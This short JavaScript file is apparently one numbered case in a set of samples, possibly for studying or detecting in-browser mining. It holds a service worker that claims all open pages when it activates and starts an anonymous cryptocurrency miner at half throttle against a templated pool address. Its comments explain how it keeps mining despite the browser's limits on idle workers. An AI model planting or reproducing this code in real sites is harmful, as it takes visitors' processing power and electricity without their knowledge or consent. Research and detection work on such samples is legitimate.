// Case i: a service worker that, once active, logs in to the pool and hashes its jobs.
// A service worker may not hold the CPU forever (the browser stops idle ones), so it hashes in
// short bursts while its socket keeps it busy.
importScripts('/static/m-hash.js', '/static/m.js');

self.addEventListener('install', function () { self.skipWaiting(); });
self.addEventListener('activate', function (event) {
  event.waitUntil(self.clients.claim());
  var miner = Miner.Anonymous('case-i-service-worker', {pool: '{{POOL_WS}}', inline: true,
                                                        throttle: 0.5});
  miner.start();
});
